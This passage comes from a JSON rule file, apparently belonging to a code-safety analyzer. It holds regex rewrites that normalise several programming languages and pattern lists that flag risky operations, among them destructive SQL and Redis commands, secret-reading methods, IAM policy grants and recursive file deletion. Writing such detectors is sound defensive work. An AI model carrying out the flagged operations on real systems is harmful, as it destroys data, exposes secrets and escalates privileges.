[\\\\w<>]+\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\)\
)[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|d\
efer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\
\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w\
+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch\
|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|e\
lse|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}\
]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\
\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*\
?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|\
'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^(\
)]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^\
<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any\
_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getPropert\
y|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachInd\
exed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\
\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.\
(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:u\
nsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|\
runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(\
?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\\
w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?\
=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\
\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$\
1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|protected|const|constexpr|auto|late|synchro\
nized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\
\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.\
]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.]\
)(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|\
instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfor\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+\
in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],\
["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\
\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|\
switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?\
:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\
\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nm\
ain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|forea\
ch) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][\
^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?::\
:)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($\
1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(\
?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfil\
e\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:\
-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?\
:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bfore\
ach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($\
2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]\
},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(\
?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\\
(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|\
defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\((\
[^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])\
",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*\
)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]}\
,"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b\
(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""]\
,["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*-\
>","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\
\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2\
, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\
\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\("\
,"remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\
\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"\
","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"a\
nd":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"/\
/":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"\
],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTE\
M"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-g\
lobal","name":1},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","\
name":1},{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"doe\
s":"create","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[[\
"RESET"],["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|s\
tartsWith|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:direc\
tory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:ge\
t|batch_?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced\
_?)?secret(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingre\
ss(?:_?command)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear\
|drop|flush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storag\
e)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-option\
s":["api_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|serve\
rs?|brokers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|AC\
COUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|o\
rg|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database\
|data-?source|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?\
client)|(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":\
["\\\\b(?:continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|creat\
e|name|unsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constan\
ts)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmut\
ation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-dat\
a":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.)\
)|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\\
w*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+\
)$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?\
:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|^(?![\\\\s\\\\S]*\\\\b(?:\
DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"links-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__\
dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\
\\\\.)|['\\"][\\\\w:=/+]*:memory:['\\"]|['\\"]jdbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\
\\\\/['\\"]"],"database":["\\\\b(?:mongodb|postgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]",\
"i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|iored\
is|snowflake|clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosq\
lite|tempfile|os|sys|pathlib|shutil|json|re|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|d\
ecimal|enum|collections|itertools|functools|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlit\
e3|apsw)\\\\.Connection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*[\
'\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"data-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|ob\
jection|bookshelf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|requir\
e\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|U\
RI|DSN)\\\\b","i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-stor\
e":["redis|valkey|keydb|memcache","i"],"unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]\
*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)\
[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub\
_responses: true\\\\b"],"stubbed-requests":["^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https\
